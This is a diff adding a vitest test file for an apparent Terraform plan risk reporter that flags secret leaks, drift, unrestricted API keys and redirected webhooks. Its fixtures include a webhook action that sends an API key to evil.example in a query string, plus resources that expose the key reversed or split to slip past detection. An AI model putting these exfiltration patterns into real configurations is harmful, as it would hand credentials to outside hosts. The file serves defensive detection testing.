@@ -1,0 +1,147 @@
+import { expect, it } from 'vitest';
+import type { Report } from '../../src/report/model';
+import { verdictOf } from '../../src/report/verdict';
+import { scenario } from '../harness/scenario';
+import { reporting } from '../harness/scenario/reporting';
+import { needFeature } from '../harness/terraform/needed-feature';
+import { endpoint, key } from './blocks';
+
+const risksOf = ({ risks }: Report) =>
+  risks.map(({ name, severity, sentence }) => `${severity} ${name}: ${sentence.text}`);
+
+/** Plans without a search for leaks: these plans show a key on purpose. */
+async function leaking(...variables: readonly string[]) {
+  const s = await scenario();
+  const given: Record<string, string> = {};
+  for (const name of variables) given[`TF_VAR_${name}`] = await s.plantSecret(name);
+  const { json } = await reporting(s);
+  const report = async (configuration: string, ...flags: readonly string[]) => {
+    await s.configure(configuration);
+    const shown = { holdsState: true };
+    const { code, stderr } = await s.workspace.run(['plan', '-out=tfplan', ...flags], given, shown);
+    expect([code, stderr]).toEqual([0, '']);
+    return json('tfplan');
+  };
+  return { s, report };
+}
+
+it('an action with a key in its address is critical, also with -invoke, where a plan lists no resource', async context => {
+  await needFeature('actions', context);
+  const { s, report } = await leaking('tested');
+  const action = (url: string) => `action "svc_webhook_endpoint_test" "a" {
+  config {
+    url    = "${url}"
+    secret = var.tested
+  }
+}
+`;
+  const evil = action(`https://evil.example/x?k=$\{nonsensitive(svc_api_key.ci.key)}`);
+  await s.startFrom(key('ci'));
+  const named = 'action.svc_webhook_endpoint_test.a';
+  const invoked = await report(key('ci') + evil, `-invoke=${named}`);
+  expect(risksOf(invoked)).toEqual([
+    `critical secret-shown: ${named} shows a secret`,
+    `critical action-invoked: ${named} is invoked by -invoke and sends events to evil.example`,
+  ]);
+  expect(verdictOf(invoked).work).toBe('1 action to invoke');
+  const trigger =
+    'lifecycle {\n    action_trigger {\n      events  = [after_update]\n      actions = [action.svc_webhook_endpoint_test.a]\n    }\n  }';
+  const more = key('ci', { called: 'other', more: trigger });
+  expect(risksOf(await report(more + action('https://evil.example/')))).toEqual([
+    `medium action-invoked: ${named} is invoked AfterUpdate of svc_api_key.ci and sends events to evil.example`,
+  ]);
+});
+
+it('a key that is handed on by an argument is a risk: as it is, in pieces, and before it is known', async () => {
+  const { s, report } = await leaking();
+  const log = (name: string, value: string) =>
+    `resource "terraform_data" "${name}" {\n  input = ${value}\n}\n`;
+  const leaks = [
+    log('whole', 'nonsensitive(svc_api_key.ci.key)'),
+    log('backwards', 'nonsensitive(strrev(svc_api_key.ci.key))'),
+    log('split', '[for part in split("_", nonsensitive(svc_api_key.ci.key)) : part]'),
+    log('hidden', 'svc_api_key.ci.key'),
+    log('id', 'svc_api_key.ci.id'),
+    `output "environment" {\n  value = nonsensitive(provider::svc::key_environment(svc_api_key.ci.key))\n}\n`,
+  ].join('');
+  const mayShow = (argument: string) => `medium secret-may-show: ${argument} may show a secret`;
+  const new_ = await report(key('ci') + leaks);
+  expect(risksOf(new_)).toEqual([
+    mayShow('output.environment'),
+    ...['backwards', 'split', 'whole'].map(name => mayShow(`input of terraform_data.${name}`)),
+    'low key-issued: key ci is issued with alerts:read',
+  ]);
+  await s.startFrom(key('ci'));
+  const known = await report(key('ci') + leaks);
+  expect(risksOf(known)).toEqual([
+    'critical secret-shown: input of terraform_data.whole shows a secret',
+    mayShow('output.environment'),
+    ...['backwards', 'split'].map(name => mayShow(`input of terraform_data.${name}`)),
+  ]);
+  expect(verdictOf(known).work).toBe('1 output changes, 5 resources of other providers');
+});
+
+it('an import has the risk of what it takes over, and a forgotten object that it goes on working', async context => {
+  await needFeature('write-only arguments', context);
+  const { s, report } = await leaking('signing');
+  const [hook, granted] = await s.behindTheBack(({ webhooks, apiKeys }) => [
+    webhooks.create({
+      url: 'https://evil.example/x',
+      events: ['alert.created'],
+      secret: 'known to somebody',
+    }),
+    apiKeys.issue({ name: 'hand', tenant_id: 'ten_acme', scopes: ['webhooks:manage'] }),
+  ]);
+  const taken = (to: string, id: string) => `import {\n  to = ${to}\n  id = "${id}"\n}\n`;
+  const both =
+    endpoint('a')
+      .replace('receiver.example/a', 'evil.example/x')
+      .replace(/secret .*/, '') + key('hand', { scope: 'webhooks:manage' });
+  const imports = taken('svc_webhook_endpoint.a', hook.id) + taken('svc_api_key.hand', granted.id);
+  expect(risksOf(await report(both + imports))).toEqual([
+    'medium key-imported: key hand is imported with webhooks:manage',
+    'medium endpoint-imported: endpoint evil.example is imported for alert.created',
+  ]);
+  await s.startFrom(key('leaving'));
+  const forgotten = 'removed {\n  from = svc_api_key.leaving\n  lifecycle {\n    destroy = false\n  }\n}\n';
+  expect(risksOf(await report(forgotten))).toEqual([
+    'medium object-forgotten: key leaving leaves the state, and goes on working',
+  ]);
+});
+
+it('what somebody changes by hand, and then in the code, has the risk of the change itself', async () => {
+  const { s, report } = await leaking('signing');
+  await s.startFrom(endpoint('a') + key('ci'));
+  await s.behindTheBack(({ webhooks, apiKeys }) => {
+    for (const { id } of webhooks.all()) webhooks.update(id, { url: 'https://evil.example/a' });
+    for (const { id, name } of apiKeys.all()) if (name === 'ci') apiKeys.update(id, { scopes: [] });
+  });
+  const agreed =
+    endpoint('a').replace('receiver', 'evil') + key('ci').replace(/scopes.*/, 'unrestricted = true');
+  expect(risksOf(await report(agreed))).toEqual([
+    'critical unrestricted-key: key ci becomes unrestricted',
+    'high host-changed: endpoint receiver.example delivers to evil.example instead',
+    'high drift: key ci was made unrestricted on the platform',
+    'high drift: endpoint receiver.example was redirected to evil.example on the platform',
+  ]);
+});
+
+it('a report names the platform that a provider block sets, and says where an expression does', async () => {
+  const { s, report } = await leaking();
+  const block = (alias: string, url: string) =>
+    `provider "svc" {\n  alias    = "${alias}"\n  base_url = ${url}\n}\n`;
+  const platforms = async (...blocks: readonly string[]) =>
+    (await report(`locals {\n  url = "${s.platform.url}"\n}\n${blocks.join('')}`)).plan.platforms;
+  const host = new URL(s.platform.url).host;
+  expect(
+    await platforms(
+      block('here', JSON.stringify(s.platform.url)),
+      block('local', 'local.url'),
+      block('template', `"https://evil.example/$\{local.url}"`),
+    ),
+  ).toEqual([
+    { provider: 'svc.here', host },
+    { provider: 'svc.local', host: null },
+    { provider: 'svc.template', host: null },
+  ]);
+});
